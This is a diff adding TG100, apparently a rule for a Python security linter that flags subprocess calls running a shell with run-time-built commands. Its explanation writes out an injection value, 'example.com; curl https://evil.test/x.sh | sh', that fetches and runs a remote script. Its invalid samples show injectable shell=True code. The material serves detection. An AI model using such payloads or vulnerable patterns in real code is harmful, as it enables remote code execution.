@@ -1,0 +1,105 @@
+"""TG100: a subprocess started through the shell with a command built at run time."""
+
+from __future__ import annotations
+
+import ast
+
+from tabguard.engine.fixes import expression_fix
+from tabguard.engine.rule import Invalid, Rule
+from tabguard.rules.injection._rewrite import replace_arguments
+from tabguard.rules.injection._shell import SUBPROCESS_CALLS, argv_text
+from tabguard.rules.injection._strings import is_static, raised
+
+_SHELL_ONLY = frozenset({"asyncio.create_subprocess_shell"})
+
+
+def _shell_enabled(call: ast.Call, ctx) -> bool:
+    keyword = ctx.keyword(call, "shell")
+    if keyword is None:
+        return False
+    value = keyword.value
+    return not (isinstance(value, ast.Constant) and not value.value)
+
+
+class ShellTrueCommand(Rule):
+    id = "TG100"
+    name = "subprocess-shell-injection"
+    severity = "high"
+    confidence = "high"
+    cwe = (78,)
+    owasp = "A05:2025"
+    message = "`{callee}` runs a shell command built from {what}"
+    placeholders = {"callee": "subprocess.run", "what": "a variable"}
+    aliases = ("B602", "B604", "S602", "S604")
+    what = (
+        "Passes a command string assembled at run time to `{callee}` with the shell enabled, so the "
+        "shell parses the whole string, including any value spliced into it."
+    )
+    why = (
+        "With `shell=True` the string goes to `/bin/sh -c`. A value such as `example.com; curl "
+        "https://evil.test/x.sh | sh` in `f\"ping -c 1 {host}\"` ends the intended command and runs the "
+        "attacker's: a file name, a branch name or a host name from a form is enough. Quoting by hand "
+        "is error-prone (`$(...)`, backticks, newlines)."
+    )
+    how = (
+        "Pass the program and its arguments as a list and leave `shell` off: each element reaches the "
+        "program as one argument and nothing is parsed. If a shell feature is really needed, quote each "
+        "value with `shlex.quote`."
+    )
+    example = 'subprocess.run(["ping", "-c", "1", host], check=True, timeout=10)'
+    fix_safety = (
+        "Unsafe: the rewrite splits the command on spaces into a list and drops `shell=True` (offered "
+        "only when the text has no quotes, pipes, redirections or other shell syntax). A value that "
+        "used to expand into several words is now one argument, and non-string values must be passed "
+        "through `str()`."
+    )
+    references = (
+        "https://cwe.mitre.org/data/definitions/78.html",
+        "https://docs.python.org/3/library/subprocess.html#security-considerations",
+        "https://owasp.org/www-community/attacks/Command_Injection",
+    )
+    VALID = (
+        'import subprocess\nsubprocess.run(["ls", "-l", path])\n',
+        'import subprocess\nsubprocess.run("ls -l /tmp", shell=True)\n',
+        'import subprocess\nCMD = "uptime"\nsubprocess.run(CMD, shell=True)\n',
+        'import subprocess\ndef f():\n    cmd = "df -h"\n    subprocess.run(cmd, shell=True)\n',
+        'import subprocess\nsubprocess.run(f"ls {path}", shell=False)\n',
+        'import subprocess, shlex\ndef f(path):\n    subprocess.run(["tar", "czf", "out.tgz", path], check=True)\n',
+    )
+    INVALID = (
+        Invalid(
+            'import subprocess\ndef ping(host):\n    subprocess.run(f"ping -c 1 {host}", shell=True, check=True)\n',
+            'import subprocess\ndef ping(host):\n    subprocess.run(["ping", "-c", "1", host], check=True)\n',
+        ),
+        Invalid(
+            'import subprocess\nfrom flask import request\n@app.route("/c")\ndef c():\n'
+            '    out = subprocess.check_output("git log " + request.args["ref"], shell=True)\n',
+            'import subprocess\nfrom flask import request\n@app.route("/c")\ndef c():\n'
+            '    out = subprocess.check_output(["git", "log", request.args["ref"]])\n',
+        ),
+        Invalid('import subprocess\ndef f(cmd):\n    subprocess.Popen(cmd, shell=True)\n'),
+        Invalid('import subprocess\ndef f(name):\n    subprocess.run(f"grep {name} | wc -l", shell=True)\n'),
+        Invalid('import asyncio\nasync def f(name):\n    await asyncio.create_subprocess_shell("echo " + name)\n'),
+    )
+
+    def visit_Call(self, node: ast.Call, ctx) -> None:
+        callee = ctx.call_name(node) or ""
+        if callee in _SHELL_ONLY:
+            command = ctx.argument(node, 0, "cmd")
+        elif callee in SUBPROCESS_CALLS and _shell_enabled(node, ctx):
+            command = ctx.argument(node, 0, "args")
+            if isinstance(command, (ast.List, ast.Tuple)) and command.elts:
+                command = command.elts[0]
+        else:
+            return
+        if command is None or is_static(command, ctx):
+            return
+        source = ctx.taint(command)
+        fix = None
+        argv = argv_text(command, ctx) if callee in SUBPROCESS_CALLS and node.args and node.args[0] is command else None
+        if argv is not None:
+            fix = expression_fix(
+                ctx, node, replace_arguments(argv, drop=("shell",)), "Fix: pass an argument list without the shell", safe=False
+            )
+        what = f"user input ({source.label})" if source else "a non-constant value"
+        ctx.report(self, node, details={"callee": callee, "what": what}, source=source, fix=fix, severity=raised(self, source))
